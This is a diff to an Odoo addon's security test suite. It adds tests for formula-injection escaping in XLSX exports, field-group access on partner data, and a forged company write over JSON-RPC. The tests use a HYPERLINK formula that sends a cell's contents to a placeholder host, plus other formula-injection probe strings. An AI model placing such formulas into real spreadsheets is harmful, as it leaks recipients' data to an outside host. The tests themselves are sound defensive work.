@@ -10,7 +10,10 @@ the issue is replayed as its story, and one forged write per model goes
 through a real JSON-RPC call to a running server.
 """
 
+import io
 from datetime import date, datetime
+
+import openpyxl
 
 from odoo import Command, fields
 from odoo.exceptions import AccessError, UserError
@@ -21,6 +24,8 @@ from odoo.tests import (
     new_test_user,
     tagged,
 )
+
+from ..engine import xlsx_table
 
 # contexts a caller may send: none, and at once the key the old guard
 # trusted with others that look like permissions
@@ -37,8 +42,10 @@ CONTEXTS = (
 )
 # AccessError and ValidationError are UserErrors: any refusal of the server
 REFUSED = UserError
-# models whose records may be deleted in Odoo's own flows (a draft quotation)
-UNLINK_ALLOWED = {"sale.order"}
+FORMULA = '=HYPERLINK("http://x/?"&B9,"Open")'
+# models whose records may be deleted in Odoo's own flows (a draft quotation;
+# a company, by the settings administrators only)
+UNLINK_ALLOWED = {"sale.order", "res.company"}
 
 
 class ControlsFixture:
@@ -69,6 +76,10 @@ class ControlsFixture:
         cls.salesman = user("ctl_salesman", "sales_team.group_sale_salesman")
         cls.portal = user("ctl_portal", "base.group_portal")
         cls.public = env.ref("base.public_user")
+        # a settings administrator: may write companies, not their chain head
+        cls.sysadmin = user(
+            "ctl_sysadmin", "base.group_system,sales_closing.group_closing_manager"
+        )
         cls.attackers = (
             cls.closing_user,
             cls.accountant,
@@ -192,6 +203,7 @@ class ControlsFixture:
             "sales.closing.statement": cls.statement,
             "sales.closing.statement.line": cls.statement.line_ids,
             "sales.closing.package": cls.package,
+            "res.company": cls.company,
         }
         # the least a create needs besides the attacked field
         cls.create_values = {
@@ -230,6 +242,7 @@ class ControlsFixture:
                 "company_id": cls.company.id,
                 "date_from": cls.period.date_from,
             },
+            "res.company": {"name": "Forged Co"},
         }
 
     @classmethod
@@ -297,13 +310,14 @@ class TestSecurityControls(ControlsFixture, TransactionCase):
         self.assertIn("status", controlled["sales.closing.check.line"])
         self.assertIn("state", controlled["sales.closing.period"])
         self.assertIn("answered_by", controlled["sales.closing.statement"])
+        self.assertIn("sales_closing_package_head_hash", controlled["res.company"])
         # ...and a model of the addon declaring some is attacked below: it
         # needs its record here (the other addons test their own models)
         ours = {
             name
             for name in controlled
             if self.env[name]._original_module == "sales_closing"
-            or name == "sale.order"
+            or name in ("sale.order", "res.company")
         }
         self.assertEqual(ours - set(self.records), set())
 
@@ -586,6 +600,75 @@ class TestSecurityControls(ControlsFixture, TransactionCase):
         with self.assertRaises(AccessError):
             self.statement.with_user(self.closing_user).action_send()
 
+    # ------------------------------------------------------------------
+    # 7. Spreadsheets: user text is never a formula
+    # ------------------------------------------------------------------
+    def _formula_cells(self, content):
+        book = openpyxl.load_workbook(io.BytesIO(content))
+        return [
+            cell
+            for sheet in book.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+            if isinstance(cell.value, str) and FORMULA in cell.value
+        ]
+
+    def test_statement_xlsx_writes_names_as_text(self):
+        self.customer.name = FORMULA
+        self.statement.line_ids.sudo().ref = FORMULA
+        cells = self._formula_cells(self.statement._xlsx_content())
+        self.assertEqual(len(cells), 2)
+        for cell in cells:
+            self.assertEqual(cell.data_type, "s")
+            self.assertEqual(cell.value, "'" + FORMULA)
+
+    def test_report_xlsx_writes_text_as_text(self):
+        content = xlsx_table.workbook(
+            [
+                {
+                    "title": "By Customer",
+                    "heading": "@SUM(A1)",
+                    "columns": [("Customer", "text"), ("Due", "money")],
+                    "rows": [[FORMULA, 10.0], ["-2+3", 1.0], ["\tcmd", 2.0]],
+                }
+            ]
+        )
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        self.assertEqual(sheet["A1"].value, "'@SUM(A1)")
+        self.assertEqual(sheet["A4"].value, "'" + FORMULA)
+        self.assertEqual(sheet["A5"].value, "'-2+3")
+        self.assertEqual(sheet["A6"].value, "'\tcmd")
+        for ref in ("A1", "A4", "A5", "A6"):
+            self.assertEqual(sheet[ref].data_type, "s")
+        self.assertEqual(sheet["B4"].value, 10.0)
+
+    # ------------------------------------------------------------------
+    # 9. Customer exposure and invoicing automation on the partner
+    # ------------------------------------------------------------------
+    def test_partner_exposure_and_invoice_policy_groups(self):
+        # everybody here may edit contacts: only the field's groups refuse
+        editors = self.env.ref("base.group_partner_manager")
+        for user in (self.closing_user, self.salesman, self.accountant):
+            user.groups_id = [Command.link(editors.id)]
+        self.customer.with_user(self.salesman).write({"comment": "allowed"})
+        for user in (self.closing_user, self.salesman):
+            with self.assertRaises(AccessError):
+                self.customer.with_user(user).read(["sales_closing_exposure"])
+            with self.assertRaises(AccessError):
+                self.customer.with_user(user).write(
+                    {"sales_closing_invoice_policy": "confirm"}
+                )
+        self.customer.with_user(self.auditor).read(["sales_closing_exposure"])
+        self.customer.with_user(self.accountant).write(
+            {"sales_closing_invoice_policy": "confirm"}
+        )
+        self.assertEqual(self.customer.sales_closing_invoice_policy, "confirm")
+        # the salesperson still confirms an order of that customer, under it
+        order = self.order.with_user(self.closing_user)
+        self.assertEqual(order.sales_closing_invoice_policy, "confirm")
+        order.action_confirm()
+        self.assertEqual(self.order.state, "sale")
+
 
 @tagged("post_install", "-at_install")
 class TestSecurityControlsJsonRpc(ControlsFixture, HttpCase):
@@ -636,6 +719,7 @@ class TestSecurityControlsJsonRpc(ControlsFixture, HttpCase):
             (self.accountant, self.statement, {"state": "confirmed"}),
             (self.manager, self.statement.line_ids, {"debit": 1.0}),
             (self.manager, self.package, {"verify_state": "ok"}),
+            (self.sysadmin, self.company, {"sales_closing_package_head_hash": "0"}),
         ]
         self.assertEqual({case[1]._name for case in cases}, set(self.records))
         for user, record, vals in cases:
